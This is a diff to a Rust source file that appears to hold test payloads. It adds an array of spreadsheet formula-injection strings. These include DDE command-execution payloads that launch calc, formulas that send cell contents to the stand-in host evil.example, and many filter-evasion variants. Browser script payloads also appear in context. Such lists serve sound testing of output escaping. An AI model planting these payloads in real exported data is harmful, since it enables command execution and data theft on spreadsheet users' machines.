@@ -1,5 +1,6 @@
-//! Texts that a browser, a Markdown renderer or a forge would take for more than text.
+//! Texts that some program would take for more than text.
 
+/// For a browser, a Markdown renderer or a forge.
 pub const PAYLOADS: [&str; 80] = [
     // For a browser.
     "<script>alert(1)</script>",
@@ -84,4 +85,48 @@ pub const PAYLOADS: [&str; 80] = [
     "#12 !12 ~bug %1 $5 &7",
     ":smile: :+1: :octocat:",
     "owner/repo#1 and owner/repo@ann",
+];
+
+/// For a spreadsheet, which would take them for formulas.
+pub const CELLS: [&str; 40] = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+    "=IMPORTXML(\"http://evil.example\",\"//a\")",
+    "=WEBSERVICE(\"http://evil.example/\"&A1)",
+    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
+    "=IMAGE(\"http://evil.example/p.png\")",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "+1+1",
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "   @SUM(1)",
+    "\"=1+1",
+    "'=1+1",
+    "\"\"=1+1",
+    "\" =1+1",
+    "' \" =1+1",
+    "“=1+1",
+    "«=1+1",
+    "`=1+1",
+    "\u{a0}=1+1",
+    "\u{3000}=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1)",
+    "−1+1",
+    "a;=1+1",
+    "a,=1+1",
+    "a\";=1+1;\"",
+    "a\",=1+1,\"",
+    "a; \"=1+1",
+    "a|=1+1",
+    "a\n=1+1",
 ];
